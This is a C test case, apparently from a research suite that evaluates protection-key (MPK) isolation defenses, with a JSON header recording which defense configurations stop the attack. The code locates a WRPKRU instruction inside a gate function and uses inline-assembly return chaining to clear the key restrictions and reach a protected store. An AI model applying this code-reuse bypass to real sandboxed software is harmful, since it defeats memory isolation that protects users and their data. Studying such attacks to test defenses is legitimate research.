/*
{
  "title": "A chain of returns: to the WRPKRU of a gate with 0 in EAX, and from there to the store of set_count",
  "reference": "Shacham, The Geometry of Innocent Flesh on the Bone: Return-into-libc without Function Calls, CCS 2007; Vahldiek-Oberwagner et al., ERIM: Secure, Efficient In-process Isolation with Protection Keys (MPK), USENIX Security 2019",
  "cells": {
    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"},
    "mpk-hardened": {"outcome": "refused"},
    "ring3": {"outcome": "refused"},
    "pks-hardened": {"outcome": "refused"},
    "mpk-bundled": {"outcome": "refused"}
  },
  "control": {"mpk-bundled": "contained"}
}
*/
#include "attack.h"

enum { STORE = 9 };

// The first WRPKRU in the code of a gate.
static uint64_t wrpkru_behind(const void *start) {
  const volatile uint8_t *at = start;
  while (at[0] != 0x0f || at[1] != 0x01 || at[2] != 0xef) at++;
  return (uint64_t)at;
}

int main(void) {
  BYPASS_OF_KEYS(__asm__ volatile(
      "leaq 1f(%%rip), %%rsi\n"
      "pushq %%rsi\n"
      "pushq %%rbp\n"
      "pushq %0\n"
      "pushq %1\n"
      "ret\n"
      "1:" : : "r"((uint64_t)set_count + STORE), "r"(wrpkru_behind((const void *)ushell_disable_write)), "a"(0), "c"(0), "d"(0),
      "D"((uint64_t)ATTACK_COUNT) : "rsi", "memory"));
  GOAL_COUNT();
  return 0;
}
